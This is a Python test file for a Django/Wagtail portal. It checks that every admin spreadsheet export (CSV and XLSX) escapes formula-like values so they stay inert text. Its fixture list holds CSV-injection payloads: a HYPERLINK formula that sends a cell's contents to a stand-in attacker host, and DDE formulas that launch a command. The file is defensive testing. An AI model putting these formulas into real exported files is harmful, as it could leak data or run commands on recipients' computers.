"""Every spreadsheet export shows a formula-like value as text, whole; numbers stay numbers."""

import csv
import io

from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import Workbook, load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.views import SubmissionsListView

from portal.core.spreadsheets import csv_value, text_cells

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B7,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
HARMLESS = ["Hội thảo = hợp tác", "a-b", "", "0234 3811 222"]


def test_csv_values():
    for value in HOSTILE:
        assert csv_value(value) == "'" + value
    for value in HARMLESS:
        assert csv_value(value) == value
    assert csv_value(-50_000) == -50_000 and csv_value(None) is None


def test_text_cells_keeps_each_value_whole_as_text():
    book = Workbook()
    sheet = book.active
    sheet.append([*HOSTILE, -50_000, *HARMLESS])
    text_cells(book)
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    for cell, value in zip(row, HOSTILE, strict=False):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
    amount = row[len(HOSTILE)]
    assert (amount.value, amount.data_type) == (-50_000, "n")


def _export_views(patterns=None, namespace=""):
    for entry in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(entry, URLResolver):
            yield from _export_views(entry.url_patterns, namespace + (f"{entry.namespace}:" if entry.namespace else ""))
        elif isinstance(entry, URLPattern):
            view_class = getattr(entry.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                yield f"{namespace}{entry.name}", view_class, getattr(entry.callback, "view_initkwargs", {})


def test_every_admin_export_neutralises_formulas():
    """Each list export in the admin, the portal's (ledger, Q&A, applications...) and Wagtail's (site history...)."""
    # Form submissions' view is built per form page at request time, not in the URL configuration.
    views = [*_export_views(), ("form submissions", SubmissionsListView, {})]
    modules = {view_class.__module__ for _name, view_class, _kwargs in views}
    assert {
        "portal.royalties.views",
        "portal.qa.admin_views",
        "portal.applications.admin_views",
        "portal.accounts.views",
        "portal.payments.admin_views",
        "portal.translations.views",
        "portal.planning.wagtail_hooks",
        "wagtail.admin.views.generic.models",  # the consultation's comments, among others
        "wagtail.admin.views.reports.audit_logging",
    } <= modules
    for name, view_class, kwargs in views:
        view = view_class(**kwargs)
        # Fields with a preprocessing of their own take a typed value (a content type...), not text.
        fields = [field for field in view.list_export if field not in view.custom_field_preprocess] or ["value"]
        for value in HOSTILE:
            row = {field: value for field in fields}
            out = io.StringIO()
            view.write_csv_row(csv.DictWriter(out, fieldnames=fields), row)
            assert set(next(csv.reader(io.StringIO(out.getvalue())))) == {"'" + value}, (name, value)
            cells = list(view.generate_xlsx_row(Workbook(write_only=True).create_sheet(), row))
            assert {(cell.value, cell.data_type) for cell in cells} == {(value, "s")}, (name, value)
